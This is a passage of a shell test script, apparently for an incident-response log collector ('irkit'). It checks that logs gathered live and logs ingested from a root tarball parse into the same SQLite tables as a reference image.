	cp "$IRKIT_SRC/tests/data/logs/dpkg.log" "$R/var/log/dpkg.log"
	touch -d "2025-01-05 12:00:00Z" "$R"/var/log/* "$R"/var/log/*/*
	image "$R" "$SCRATCH/img.db"
	# live: irkit-collect copies the raw logs, ingest parses the copies
	run "$COLLECT" -q -o "$SCRATCH/a.tar.zst" --root "$R" --only logs
	[ "$status" -eq 0 ]
	run "$ANALYZE" ingest --db "$SCRATCH/live.db" "$SCRATCH/a.tar.zst"
	echo "$output"
	[ "$status" -le 1 ]
	# foreign: a tarball of the root (etc/, usr/, var/log/)
	tar -C "$R" -czf "$SCRATCH/root.tar.gz" .
	run "$ANALYZE" ingest --db "$SCRATCH/foreign.db" "$SCRATCH/root.tar.gz"
	echo "$output"
	[ "$status" -le 1 ]
	for q in "SELECT path, line, time, ts_how, tz, ts_note, event, user, address, message, line_hash FROM log_lines ORDER BY path, line" \
	    "SELECT path, line, time, serial, event_type, record_types, argv, proctitle, event_hash FROM audit_events ORDER BY path, line" \
	    "SELECT path, line, time, ts_how, action, package, version, who, command, line_hash FROM package_events ORDER BY path, line, package"; do
		sqlite3 "$SCRATCH/img.db" "$q" > img
		[ -s img ]
		for db in live foreign; do
			sqlite3 "$SCRATCH/$db.db" "$q" > "$db"
			diff img "$db"
		done
	done
	[ "$(sqlite3 live.db "SELECT count(*) FROM log_lines WHERE path = '/var/log/auth.log.1.gz'")" -eq 8 ]
}
